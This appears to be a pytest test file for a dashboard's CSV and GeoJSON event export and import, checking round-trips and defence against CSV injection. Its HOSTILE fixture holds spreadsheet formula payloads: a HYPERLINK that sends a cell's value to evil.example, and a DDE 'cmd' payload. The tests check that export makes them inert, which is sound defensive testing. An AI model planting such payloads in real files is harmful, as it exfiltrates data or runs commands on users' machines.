"""The one CSV format: every field of every event survives export then import, through the
command line and through ``/export/events.csv``; its columns follow the schema."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from dashboard.cli import main
from dashboard.config import Settings
from dashboard.data import csv_format, schema
from dashboard.data.csv_export import events_to_csv
from dashboard.data.csv_format import CellError, decode_cell, encode_cell
from dashboard.data.importer import ImportFailed, import_events
from dashboard.data.loading import load_dataset
from dashboard.web.app import create_app


def features_by_id(data_dir: Path) -> dict[str, dict[str, Any]]:
    doc = json.loads((data_dir / schema.EVENTS_FILE).read_text(encoding="utf-8"))
    return {f["id"]: f for f in doc["features"]}


def test_columns_are_the_schema_fields_then_the_read_only_ones():
    assert csv_format.COLUMNS[: len(schema.EVENT_FIELDS)] == schema.EVENT_FIELD_NAMES
    assert csv_format.COLUMNS[len(schema.EVENT_FIELDS) :] == csv_format.READ_ONLY_COLUMNS


def test_http_export_imports_back_to_identical_events(data_dir, dataset, tmp_path):
    before = features_by_id(data_dir)
    client = create_app(Settings(), dataset=dataset).server.test_client()
    response = client.get("/export/events.csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert body.splitlines()[0].split(",") == list(csv_format.COLUMNS)
    exported = tmp_path / "http.csv"
    exported.write_text(body, encoding="utf-8")
    result = import_events(exported, data_dir)
    assert result.events == len(before)
    after = features_by_id(data_dir)
    assert after.keys() == before.keys()
    for fid, feature in before.items():
        assert after[fid] == feature, fid  # every property, and the geometry


def test_command_and_http_export_write_the_same_rows(data_dir, dataset, tmp_path, capsys):
    assert main(["export-csv", "--data", str(data_dir)]) == 0
    command = {r["id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    client = create_app(Settings(), dataset=dataset).server.test_client()
    body = client.get("/export/events.csv").get_data(as_text=True)
    http = {r["id"]: r for r in csv.DictReader(io.StringIO(body))}
    assert command == http


AWKWARD: dict[str, Any] = {
    "title": "  [A title] that looks like JSON; with a separator\nand a second line ",
    "actors": ["RPKF; the contingent", "[bracketed]", "Émile"],
    "figures": {"killed": "5; later 6", "a=b": "c", "range": "~1,960+"},
    "notes": "",
    "end_date": None,
    "context": True,
    "contested": [{"claim": "5 killed", "by": "Armenia", "source_url": None, "source_name": "x"}],
}


def test_awkward_values_survive_the_round_trip(data_dir, edit_feature, tmp_path):
    def awkward(feature):
        props = feature["properties"]
        props.update({k: v for k, v in AWKWARD.items() if k != "notes"})
        props["notes"] = None
        props["sources"].append({"url": "https://example.org/a,b;c", "name": "N", "role": "r"})

    edit_feature(data_dir, schema.EVENTS_FILE, "E010", awkward)
    before = features_by_id(data_dir)
    exported = tmp_path / "events.csv"
    exported.write_text(events_to_csv(data_dir), encoding="utf-8")
    import_events(exported, data_dir)
    assert features_by_id(data_dir) == before
    assert before["E010"]["properties"]["actors"] == AWKWARD["actors"]


@pytest.mark.parametrize("field", schema.EVENT_FIELDS, ids=lambda f: f.name)
def test_every_field_type_encodes_and_decodes_equal(field, dataset):
    for value in dataset.all_events()[field.name].head(30):
        if isinstance(value, float):  # a missing optional value in the frame
            continue
        assert decode_cell(field, encode_cell(field, value)) == value


@pytest.mark.parametrize(
    ("field_type", "value"),
    [
        ("int", 12),
        ("float", 0.5),
        ("list[source]", [{"url": "https://a.org", "name": "A; B", "role": "primary"}]),
        ("dict[str,str]", {}),
        ("list[str]", []),
    ],
)
def test_a_new_field_type_needs_no_new_code(field_type, value):
    field = schema.Field("new_field", field_type, False, "A field the next issue adds.")
    assert decode_cell(field, encode_cell(field, value)) == value
    nullable = schema.Field("new_field", field_type, False, "Nullable.", nullable=True)
    assert encode_cell(nullable, None) == "" and decode_cell(nullable, "") is None


def test_short_forms_read_as_editors_write_them():
    fields = csv_format.FIELDS
    assert decode_cell(fields["actors"], " RPKF ;Armenia; ") == ["RPKF", "Armenia"]
    assert decode_cell(fields["actors"], '["a;b"]') == ["a;b"]
    assert decode_cell(fields["figures"], "killed=5; wounded = 3") == {
        "killed": "5",
        "wounded": "3",
    }
    assert decode_cell(fields["context"], " Yes ") is True
    assert decode_cell(fields["notes"], "") is None
    assert decode_cell(fields["contested"], "") == []


@pytest.mark.parametrize(
    ("name", "raw", "message"),
    [
        ("context", "maybe", "'context' must be true or false"),
        ("figures", "killed 5", "'figures': 'killed 5' is not key=value"),
        ("sources", "https://a.org", "'sources' is not valid JSON"),
        ("contested", "[{", "'contested' is not valid JSON"),
    ],
)
def test_bad_cells_name_their_column(name, raw, message):
    with pytest.raises(CellError, match=message):
        decode_cell(csv_format.FIELDS[name], raw)


def test_read_only_columns_are_ignored_or_checked(data_dir, tmp_path):
    exported = tmp_path / "events.csv"
    text = events_to_csv(data_dir)
    rows = list(csv.DictReader(io.StringIO(text)))
    rows[0]["cite_as"] = "anything"
    rows[0]["site_name"] = "anything"
    located = next(i for i, r in enumerate(rows) if r["lon"])
    rows[located]["lat"] = str(float(rows[located]["lat"]) + 0.1)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(csv_format.COLUMNS), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    exported.write_text(out.getvalue(), encoding="utf-8")
    with pytest.raises(ImportFailed) as info:
        import_events(exported, data_dir)
    (problem,) = info.value.problems
    assert problem.line == located + 2 and "lon/lat" in problem.reason


def test_readme_documents_the_columns():
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    assert f"<!-- table:csv -->\n{csv_format.markdown_table()}\n<!-- /table -->" in readme


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "summary": "+1+cmd|' /C calc'!A0",
    "notes": "-2+3",
    "actors": ["@SUM(1+1)", "'already quoted"],
    "figures": {"=killed": "1"},
}


def formula_like(cell: str) -> bool:
    return cell.startswith(csv_format.FORMULA_STARTS)


def test_hostile_text_is_exported_inert_and_imported_back_unchanged(
    data_dir, dataset, edit_feature, tmp_path
):
    """CSV injection (OWASP): no text cell of either export starts as a formula, and
    export then import is still the identity."""

    def hostile(feature):
        feature["properties"].update(HOSTILE)

    edit_feature(data_dir, schema.EVENTS_FILE, "E010", hostile)
    before = features_by_id(data_dir)
    command = events_to_csv(data_dir)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(command))}
    row = rows["E010"]
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["summary"].startswith("'+") and row["notes"] == "'-2+3"
    assert row["actors"].startswith("'@") and not formula_like(row["figures"])
    for values in rows.values():
        text_cells = [v for k, v in values.items() if k not in ("lon", "lat")]
        assert not any(formula_like(cell) for cell in text_cells), values["id"]
    exported = tmp_path / "events.csv"
    exported.write_text(command, encoding="utf-8")
    import_events(exported, data_dir)
    assert features_by_id(data_dir) == before
    assert before["E010"]["properties"]["actors"] == HOSTILE["actors"]


def test_http_export_neutralises_hostile_titles_and_keeps_numbers(data_dir, edit_feature):
    edit_feature(data_dir, schema.EVENTS_FILE, "E010", lambda f: f["properties"].update(HOSTILE))
    dataset = load_dataset(data_dir)
    client = create_app(Settings(data_dir=data_dir), dataset=dataset).server.test_client()
    body = client.get("/export/events.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    row = next(r for r in rows if r["id"] == "E010")
    assert row["title"] == "'" + HOSTILE["title"]
    for values in rows:
        if values["lon"]:  # numbers stay numbers, never quoted (a negative one too)
            float(values["lon"]), float(values["lat"])
        assert not any(formula_like(v) for k, v in values.items() if k not in ("lon", "lat"))


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'", "''=x", "plain", "", "a=b"]
)
def test_neutralise_is_undone_by_restore(text):
    cell = csv_format.neutralise(text)
    assert csv_format.restore(cell) == text
    assert not formula_like(cell)


def test_geojson_export_with_hostile_titles_is_rfc7946_that_gdal_reads(data_dir, edit_feature):
    """The GeoJSON export keeps text as it is (no spreadsheet reads it) and stays a valid
    RFC 7946 document: GDAL's GeoJSON driver reads every feature back."""
    import pyogrio

    edit_feature(data_dir, schema.EVENTS_FILE, "E010", lambda f: f["properties"].update(HOSTILE))
    dataset = load_dataset(data_dir)
    client = create_app(Settings(data_dir=data_dir), dataset=dataset).server.test_client()
    response = client.get("/export/events.geojson")
    assert response.mimetype == "application/geo+json"
    doc = json.loads(response.get_data(as_text=True))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc  # RFC 7946: WGS 84 only
    frame = pyogrio.read_dataframe(io.BytesIO(response.get_data()))
    assert len(frame) == len(doc["features"]) == len(dataset.events)
    assert frame.crs.to_epsg() == 4326
    titles = dict(zip(frame["id"], frame["title"], strict=True))
    assert titles["E010"] == HOSTILE["title"]
    minx, miny, maxx, maxy = frame.total_bounds
    assert 44 < minx <= maxx < 48 and 38 < miny <= maxy < 41  # lon, lat order
